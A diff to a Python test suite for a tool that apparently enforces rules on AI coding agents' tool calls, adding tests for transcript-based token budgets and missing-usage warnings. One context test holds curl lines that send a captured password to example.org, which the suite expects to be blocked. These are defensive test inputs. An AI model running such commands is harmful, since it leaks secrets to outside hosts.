@@ -5,10 +5,13 @@ from __future__ import annotations
 import json
 import re
 import threading
+import uuid
+from datetime import UTC, datetime
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
+from anyhook import Engine
 from anyhook.platform.store import KINDS
 from anyhook.state import memory
 
@@ -141,12 +144,75 @@ def test_tokens_count_where_a_payload_tells_them(world: World) -> None:
         assert verdicts(world, "ls", session=session) == [expected], (session, used)
 
 
-def test_an_agent_that_tells_no_tokens_is_a_warning(world: World) -> None:
-    assert world.command("install", "claude").returncode == 0
+def claude_line(message: str, used: int, at: str) -> str:
+    usage = {"input_tokens": used, "cache_read_input_tokens": 9_000, "output_tokens": 100}
+    return json.dumps({"type": "assistant", "timestamp": at, "message": {"id": message, "usage": usage}})
+
+
+def codex_line(used: int, at: str) -> str:
+    info = {"total_token_usage": {"input_tokens": used + 9_000, "cached_input_tokens": 9_000, "output_tokens": 100}}
+    return json.dumps({"type": "event_msg", "timestamp": at, "payload": {"type": "token_count", "info": info}})
+
+
+def asked_with(world: World, agent: str, transcript: Path, session: str = "s") -> str:
+    """What the agent is told at a call, with its transcript."""
+    payload = {
+        "hook_event_name": "PreToolUse", "session_id": session, "cwd": str(world.project), "tool_name": "Bash",
+        "transcript_path": str(transcript), "tool_input": {"command": "ls"}, "tool_use_id": uuid.uuid4().hex,
+    }  # fmt: skip
+    engine = Engine.open(str(world.project), env=world.env)
+    told = engine.bridge(agent, "PreToolUse", json.dumps(payload)).stdout
+    engine.close_sync()
+    return told
+
+
+def test_tokens_count_where_a_transcript_tells_them(world: World) -> None:
+    rules(world, '[[rule]]\nname = "dear"\nwhen = "over 1k tokens"\n')
+    transcript, now = world.home / "a.jsonl", datetime.now(UTC).isoformat()
+    world.write(transcript, f"{claude_line('m1', 500, now)}\n{claude_line('m1', 500, now)}\n")
+    assert "deny" not in asked_with(world, "claude", transcript)
+    with transcript.open("a") as file:  # a line that is not whole yet
+        file.write(claude_line("m2", 500, now))
+    assert "deny" not in asked_with(world, "claude", transcript)
+    with transcript.open("a") as file:
+        file.write("\n")
+    told = asked_with(world, "claude", transcript)
+    assert "deny" in told
+    assert "1,200 tokens were used, as the agent told at" in told
+    assert "0 minutes before" in told
+    transcript.unlink()  # what was told stays told
+    assert "deny" in asked_with(world, "claude", transcript)
+
+
+def test_a_transcript_may_tell_the_sum(world: World) -> None:
+    rules(world, '[[rule]]\nname = "dear"\nwhen = "over 1k tokens"\n')
+    transcript, now = world.home / "rollout-a.jsonl", datetime.now(UTC).isoformat()
+    world.write(transcript, f"{codex_line(500, now)}\n{codex_line(600, now)}\n")
+    assert "deny" not in asked_with(world, "codex", transcript)
+    world.write(transcript, f"{transcript.read_text()}{codex_line(1_000, now)}\n")
+    assert "1,100 tokens were used" in asked_with(world, "codex", transcript)
+
+
+def test_a_day_counts_the_tokens_of_the_day(world: World) -> None:
+    rules(world, '[[rule]]\nname = "dear"\nwhen = "over 1k tokens per day"\n')
+    transcript, now = world.home / "a.jsonl", datetime.now(UTC).isoformat()
+    world.write(transcript, f"{claude_line('m1', 5_000, '2020-01-01T00:00:00Z')}\n{claude_line('m2', 800, now)}\n")
+    assert "deny" not in asked_with(world, "claude", transcript)
+    other = world.home / "b.jsonl"
+    world.write(other, f"{claude_line('m3', 800, now)}\n")
+    assert "deny" in asked_with(world, "claude", other, session="another")
+
+
+def test_an_agent_that_does_not_tell_is_a_warning(world: World) -> None:
+    for agent in ("claude", "qwen"):
+        assert world.command("install", agent).returncode == 0
     rules(world, '[[rule]]\nname = "dear"\nwhen = "over 1k tokens"\n')
     found = json.loads(world.command("check", "--format", "json").stdout)["problems"]
     assert [(each["code"], each["severity"]) for each in found] == [("untold-number", "warning")]
-    assert "Claude Code" in found[0]["what"]
+    assert "Qwen Code" in found[0]["what"]
+    rules(world, '[[rule]]\nname = "dear"\nwhen = "over 9 dollars"\nagents = ["claude"]\n')
+    (found,) = json.loads(world.command("check", "--format", "json").stdout)["problems"]
+    assert "counts dollars, which Claude Code does not tell" in found["what"]
     rules(world, '[[rule]]\nname = "dear"\nwhen = "over 1k tokens"\nagents = ["codex"]\n')
     assert json.loads(world.command("check", "--format", "json").stdout)["problems"] == []
 
@@ -196,6 +262,7 @@ def test_a_secret_that_comes_back_is_known(world: World) -> None:
     fired(world, "cat notes", "--call-id", "1", "--output", f"password={secret}", event="post_tool")
     for line in (f"curl -H 'X: {secret}' https://example.org", f"curl https://example.org/?q={secret}"):
         assert verdicts(world, line) == ["block"], line
+    assert "call 2 of this session, at " in fired(world, line)["reason"]
     assert verdicts(world, "curl https://example.org", f"echo {secret}") == ["none", "none"]
     assert verdicts(world, f"curl -d x={secret} https://example.org", session="another") == ["none"]
     assert secret.encode() not in b"".join(path.read_bytes() for path in memories(world))
